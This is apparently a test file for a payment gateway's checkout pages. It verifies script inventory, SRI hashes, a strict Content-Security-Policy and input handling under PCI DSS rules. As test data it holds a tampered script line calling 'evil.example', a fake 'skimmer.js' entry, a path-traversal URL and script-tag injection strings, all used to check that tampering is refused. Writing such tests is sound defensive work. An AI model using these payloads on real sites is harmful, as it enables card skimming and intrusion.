// Issue 16, PCI DSS 6.4.3 / 11.6.1: the pages load only this origin's inventoried script and
// style sheet, each with SRI, under a CSP with no inline code, no third party and no framing;
// the served bytes are the inventory's; the JSON API keeps its own strict CSP.
import { createHash } from 'node:crypto';
import t from 'tap';
import { buildTestGateway } from '../../../test/support/gateway.js';
import { buildPageAssets } from '../../src/pages/build.js';
import { inventoryDifferences, inventoryOf, readInventory } from '../../src/pages/inventory.js';
import { pageLanguage } from '../../src/pages/language.js';



t.test('the build is reproducible and equals the committed inventory', async (t) => {
  const [a, b] = [await buildPageAssets(), await buildPageAssets()];
  t.ok(a.script.body.equals(b.script.body), 'same sources, same bytes');
  t.same(inventoryDifferences(await readInventory(), inventoryOf(a)), [], 'gateway/web/inventory.json matches the build');
});

t.test('a changed script is caught by the inventory check', async (t) => {
  const built = await buildPageAssets();
  const tampered = { ...built, script: { ...built.script, body: Buffer.concat([built.script.body, Buffer.from(';fetch("https://evil.example")')]) } };
  tampered.script.integrity = `sha384-${createHash('sha384').update(tampered.script.body).digest('base64')}`;
  const differences = inventoryDifferences(await readInventory(), inventoryOf(tampered));
  t.equal(differences.length, 1);
  t.match(differences[0], /scripts: app\.js is sha384-/);
  const extra = inventoryOf(built);
  extra.scripts.push({ name: 'skimmer.js', file: 'skimmer.0000.js', integrity: 'sha384-x', purpose: '' });
  t.match(inventoryDifferences(await readInventory(), extra), [/skimmer\.js is not in the inventory/]);
});

t.test('GET / : one same-origin script and style sheet, both inventoried with SRI, and a strict CSP', async (t) => {
  const gw = await buildTestGateway(t);
  const inventory = await readInventory();
  const res = await gw.app.inject({ method: 'GET', url: '/' });
  t.equal(res.statusCode, 200);
  t.match(res.headers['content-type'], /^text\/html; charset=utf-8/);
  const csp = String(res.headers['content-security-policy']);
  t.notMatch(csp, /unsafe-inline|unsafe-eval|\*|https?:/, 'no inline code, eval, wildcard or other origin');
  for (const directive of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'", "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"]) {
    t.ok(csp.split('; ').includes(directive), directive);
  }
  t.equal(res.headers['cache-control'], 'no-store');
  t.equal(res.headers['x-frame-options'], 'SAMEORIGIN', 'helmet\'s legacy framing header stays');
  const scripts = [...res.body.matchAll(/<script\b([^>]*)>/g)].map((m) => m[1]!);
  t.equal(scripts.length, 1, 'one script, no inline one');
  const src = /src="([^"]+)"/.exec(scripts[0]!)?.[1];
  const integrity = /integrity="([^"]+)"/.exec(scripts[0]!)?.[1];
  t.same({ src, integrity }, { src: `/assets/${inventory.scripts[0]!.file}`, integrity: inventory.scripts[0]!.integrity });
  const links = [...res.body.matchAll(/<link\b([^>]*)>/g)].map((m) => m[1]!);
  t.equal(links.length, 1);
  t.match(links[0], `href="/assets/${inventory.styles[0]!.file}"`);
  t.match(links[0], `integrity="${inventory.styles[0]!.integrity}"`);
  t.notMatch(res.body, /<style|\sstyle=|\son[a-z]+=/i, 'no inline style or handler');

  for (const entry of [...inventory.scripts, ...inventory.styles]) {
    const asset = await gw.app.inject({ method: 'GET', url: `/assets/${entry.file}` });
    t.equal(asset.statusCode, 200);
    t.equal(`sha384-${createHash('sha384').update(asset.rawPayload).digest('base64')}`, entry.integrity, `${entry.name}: served bytes match the inventory`);
    t.equal(asset.headers['cache-control'], 'public, max-age=31536000, immutable');
  }
});

t.test('unknown or hostile asset and checkout paths are refused, never cached', async (t) => {
  const gw = await buildTestGateway(t);
  for (const url of ['/assets/app.00000000000000000000.js', '/assets/..%2f..%2fpackage.json', '/assets/app.js', '/checkout/%3Cscript%3E', '/checkout/x']) {
    const res = await gw.app.inject({ method: 'GET', url });
    t.ok(res.statusCode === 404 || res.statusCode === 400, `${url}: ${res.statusCode}`);
    t.equal(res.headers['cache-control'], 'no-store', url);
  }
});

t.test('the JSON API\'s CSP is as strict as before the pages', async (t) => {
  const gw = await buildTestGateway(t);
  const res = await gw.app.inject({ method: 'GET', url: '/healthz' });
  t.equal(res.headers['content-security-policy'], "default-src 'none';frame-ancestors 'none';form-action 'self';base-uri 'none'");
  t.equal(res.headers['cache-control'], 'no-store');
  const me = await gw.app.inject({ method: 'GET', url: '/v1/me' });
  t.equal(me.headers['content-security-policy'], "default-src 'none';frame-ancestors 'none';form-action 'self';base-uri 'none'");
});

t.test('the checkout page carries its session id and the same CSP', async (t) => {
  const gw = await buildTestGateway(t);
  const res = await gw.app.inject({ method: 'GET', url: '/checkout/cs_test_a1B2c3D4e5' });
  t.equal(res.statusCode, 200);
  t.match(res.body, 'data-view="checkout" data-session="cs_test_a1B2c3D4e5"');
  t.match(String(res.headers['content-security-policy']), "frame-ancestors 'none'");
});

t.test('language: the chosen cookie, then Accept-Language, then Kazakh; hostile values fall back', async (t) => {
  t.equal(pageLanguage(undefined, undefined), 'kk');
  t.equal(pageLanguage(undefined, 'ru-RU,ru;q=0.9,en;q=0.8'), 'ru');
  t.equal(pageLanguage(undefined, 'de-DE, en;q=0.5, ru;q=0.4'), 'en');
  t.equal(pageLanguage(undefined, 'en;q=0.2, kk;q=0.9'), 'kk');
  t.equal(pageLanguage(undefined, 'ru;q=0'), 'kk', 'q=0 means not wanted');
  t.equal(pageLanguage('en', 'ru'), 'en', 'the person\'s choice wins');
  t.equal(pageLanguage('"><script>', '<script>'), 'kk');
  t.equal(pageLanguage(undefined, `${'x,'.repeat(10_000)}ru`), 'kk', 'a huge header is cut, not parsed whole');
  const gw = await buildTestGateway(t);
  for (const [headers, lang] of [[{}, 'kk'], [{ 'accept-language': 'ru' }, 'ru'], [{ 'accept-language': 'ru', cookie: '__Host-pgw_lang=en' }, 'en'], [{ cookie: '__Host-pgw_lang=zz' }, 'kk']] as const) {
    const res = await gw.app.inject({ method: 'GET', url: '/', headers });
    t.match(res.body, `<html lang="${lang}">`, JSON.stringify(headers));
  }
});
